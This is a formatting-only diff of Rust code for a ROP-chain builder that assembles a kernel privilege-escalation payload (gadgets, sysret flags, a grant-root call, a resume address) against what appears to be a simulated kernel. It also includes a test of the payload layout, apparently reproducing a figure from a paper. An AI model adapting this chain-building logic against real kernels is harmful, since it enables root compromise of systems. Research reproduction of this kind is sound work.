@@ -95,18 +95,10 @@ impl<'a> RopChainBuilder<'a> {
         payload.extend_from_slice(&g3.to_le_bytes()); // call it
         payload.extend_from_slice(&3u64.to_le_bytes()); // sysret flags: user | IE
         payload.extend_from_slice(&resume.to_le_bytes()); // getaway target
-        // The terminating zero word is supplied by the copy itself; pad the
-        // frame so the NIC's 32-byte granule never truncates the chain.
+                                                          // The terminating zero word is supplied by the copy itself; pad the
+                                                          // frame so the NIC's 32-byte granule never truncates the chain.
         payload.extend_from_slice(&0u64.to_le_bytes());
-        Ok(AttackPlan {
-            payload,
-            g1,
-            g2,
-            g3,
-            fptr_slot,
-            grant_root: self.kernel.grant_root(),
-            resume,
-        })
+        Ok(AttackPlan { payload, g1, g2, g3, fptr_slot, grant_root: self.kernel.grant_root(), resume })
     }
 }
 
@@ -138,11 +130,8 @@ mod tests {
     fn payload_has_figure_10_layout() {
         let kernel = KernelBuilder::new().build();
         let plan = RopChainBuilder::new(&kernel).build(0x20_0000).unwrap();
-        let words: Vec<u64> = plan
-            .payload
-            .chunks(8)
-            .map(|c| u64::from_le_bytes(c.try_into().unwrap()))
-            .collect();
+        let words: Vec<u64> =
+            plan.payload.chunks(8).map(|c| u64::from_le_bytes(c.try_into().unwrap())).collect();
         assert_eq!(words.len(), 23);
         assert!(words[..16].iter().all(|&w| w != 0), "junk must be non-zero");
         assert_eq!(words[16], plan.g1);
